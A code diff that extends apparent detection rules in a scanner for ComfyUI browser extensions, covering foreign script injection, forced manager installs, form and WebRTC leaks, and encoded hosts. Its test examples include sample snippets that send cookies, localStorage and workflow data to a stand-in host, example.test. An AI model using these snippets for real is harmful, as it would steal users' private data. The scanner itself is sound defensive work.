@@ -1,9 +1,10 @@
 import { notAcross, sequence } from '../../text-search.ts'
 import { argumentsOf, type CodeFacts } from '../code-facts.ts'
 import type { Call } from '../flow/flow.ts'
-import { areLoopback, hostOf, isScriptHost, outerHostOf } from '../flow/hosts.ts'
+import { areLoopback, hostOf, isPlayerHost, isScriptHost, outerHostOf, showsHost } from '../flow/hosts.ts'
 import { isBundle, isDataAddress, runsScript, sendsAway } from '../flow/javascript-library.ts'
 import { has, isMade, type Value } from '../flow/values.ts'
+import { managerInstall } from '../receivers.ts'
 import type { CodeRule, Hit } from '../rule.ts'
 
 function* callHits(facts: CodeFacts, find: (call: Call) => Omit<Hit, 'line'> | undefined): Generator<Hit> {
@@ -83,6 +84,8 @@ export const scriptFromNetwork: CodeRule = {
           message: `\`${call.name}\` runs data from the network.`,
           severity: isStranger ? 'critical' : 'medium',
         }
+      if (writesElements.test(call.name) && call.args.some(({ texts }) => texts.some(hasForeignScript)))
+        return { message: 'Writes an element that loads a script from another server.', severity: 'high' }
       const isScript = /^(element:script\.((src|href)=|setAttribute)|import|importScripts)$/.test(call.name)
       if (!isScript) return undefined
       const address = code?.texts.find((text) => hostOf(text) !== '')
@@ -91,6 +94,41 @@ export const scriptFromNetwork: CodeRule = {
       return address === undefined || isScriptHost(address)
         ? undefined
         : { message: 'Loads a script from another server.', severity: 'high' }
+    }),
+}
+
+/** Scripts in these run. */
+const writesElements = /\.srcdoc=$|^document\.write(ln)?$|createContextualFragment$/
+
+function hasForeignScript(text: string): boolean {
+  const [tag = ''] = /<script\b[^>]{0,500}/i.exec(text) ?? []
+  const [, address = ''] = /\bsrc ?= ?["']?([^\s"'>]+)/i.exec(tag) ?? []
+  return outerHostOf(address) !== '' && !isScriptHost(address)
+}
+
+export const managerAsked: CodeRule = {
+  of: 'javascript',
+  id: 'manager-install',
+  severity: 'low',
+  why: 'The pack that the manager installs was not checked together with this one.',
+  fix: 'Let the user install it in the manager.',
+  examples: {
+    matching: [
+      'import { api } from "../../scripts/api.js"; api.fetchApi("/customnode/install/git_url", { method: "POST", body: "https://example.test/a.git" })',
+      'function install(pack) { return fetch("/manager/queue/install", { method: "POST", body: JSON.stringify(pack) }) }',
+    ],
+    harmless: ['fetch("/customnode/getlist?mode=cache")'],
+  },
+  find: (facts) =>
+    callHits(facts, (call) => {
+      if (!/(^|\.)(fetchApi|fetch|sendBeacon|post|open)$/.test(call.name)) return undefined
+      const values = argumentsOf(call)
+      if (!values.some(({ texts }) => texts.some((text) => managerInstall.test(text)))) return undefined
+      const parts = values.flatMap((value) => [value, ...(value.fields?.values() ?? [])])
+      const isChosen = !parts.some(({ texts }) => texts.some((text) => outerHostOf(text) !== ''))
+      return isChosen
+        ? { message: 'Makes the manager install something.' }
+        : { message: 'Makes the manager install a repository of its choice.', severity: 'high' }
     }),
 }
 
@@ -233,6 +271,7 @@ export const pageDataSent: CodeRule = {
       'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
       'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("https://example.test/g", { method: "POST", body: JSON.stringify(g) })',
       'import { api } from "../../scripts/api.js"; const old = api.queuePrompt; api.queuePrompt = function (n, data) { navigator.sendBeacon("https://example.test/q", JSON.stringify(data)); return old.call(this, n, data) }',
+      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://example.test/embed/" + n.properties.url })',
       'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
     ],
     harmless: [
@@ -243,6 +282,7 @@ export const pageDataSent: CodeRule = {
       'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch(app.shareAddress, { method: "POST", body: JSON.stringify(g) })',
       'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
       'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
+      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://www.youtube.com/embed/" + n.properties.url })',
     ],
   },
   find: (facts) =>
@@ -252,6 +292,8 @@ export const pageDataSent: CodeRule = {
         call.args.some(({ texts }) => texts.some((one) => tellingHandler.test(one)))
       )
         return { message: 'Writes an element into the page that sends away cookies or storage.' }
+      if (isSubmitted(facts, call))
+        return { message: 'Puts cookies, storage or the workflow into a form for another server.' }
       if (!sendsAway.test(call.name) || staysHome(facts, call)) return undefined
       const values = argumentsOf(call)
       const isOwn =
@@ -286,19 +328,47 @@ function isSpied({ args }: Call): boolean {
 /** Whether prompts, workflows or settings go to another server that the source names. */
 function isGivenAway({ calls }: CodeFacts, call: Call): boolean {
   if (!argumentsOf(call).some((value) => has(value, 'private'))) return false
-  const others = /\.send$/.test(call.name)
-    ? calls.filter(({ name }) => /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(name))
-    : [call]
-  return others.some(({ args }) =>
+  if (sendsToBrowser(call)) return true
+  const others = openedBy.find(([name]) => name.test(call.name))
+  const addressed = others ? calls.filter(({ name }) => others[1].test(name)) : [call]
+  return addressed.some(({ args }) =>
     args.some(({ texts }) =>
-      texts.map(outerHostOf).some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
+      texts
+        .filter((text) => !isPlayerHost(text))
+        .map(hostInStyle)
+        .some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
     ),
   )
 }
 
+/** Styles name addresses as `url(…)`. */
+function hostInStyle(text: string): string {
+  return outerHostOf(text.replace(/^[^(]{0,100}\burl\(["']?/, ''))
+}
+
+/** Calls whose receiver another call names. */
+const openedBy: [RegExp, RegExp][] = [
+  [/\.send$/, /^(XMLHttpRequest\(\)\.open|WebSocket)$/],
+  [/\.postMessage$/, /^(element:iframe\.src=|(globalThis\.)?open)$/],
+]
+
+/** Whether a field of a form for another server gets what is private. */
+function isSubmitted({ calls }: CodeFacts, { name, args }: Call): boolean {
+  if (!/^element:(input|textarea)\.value=$/.test(name)) return false
+  if (!args.some((value) => has(value, 'storage', 'private'))) return false
+  return calls.some(
+    (one) =>
+      one.name === 'element:form.action=' &&
+      one.args.some(({ texts }) => texts.some((text) => outerHostOf(text) !== '')),
+  )
+}
+
+/** The other browser is a stranger's, however the two found each other. */
+const sendsToBrowser = ({ name }: Call) => name === 'RTCDataChannel().send'
+
 /** Whether a request opened in another call stays local: no address in the file has a host. */
-function staysHome({ calls }: CodeFacts, { name }: Call): boolean {
-  if (!/\.send$/.test(name)) return false
+function staysHome({ calls }: CodeFacts, call: Call): boolean {
+  if (!/\.send$/.test(call.name) || sendsToBrowser(call)) return false
   return !calls.some(
     (one) =>
       /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(one.name) &&
@@ -320,7 +390,7 @@ export const hiddenReceiver: CodeRule = {
     callHits(facts, (call) =>
       sendsAway.test(call.name) &&
       has(call.args[0], 'decoded') &&
-      call.args[0]?.texts.some((text) => hostOf(text) !== '')
+      call.args[0]?.texts.some((text) => hostOf(text) !== '' && !showsHost(text, facts.text))
         ? { message: 'Contacts an address that is hidden by an encoding.' }
         : undefined,
     ),
@@ -368,6 +438,7 @@ export const nodeProcess: CodeRule = {
 export const scriptRules = [
   scriptFromNetwork,
   remoteScript,
+  managerAsked,
   hiddenScript,
   dynamicScript,
   disguisedScript,
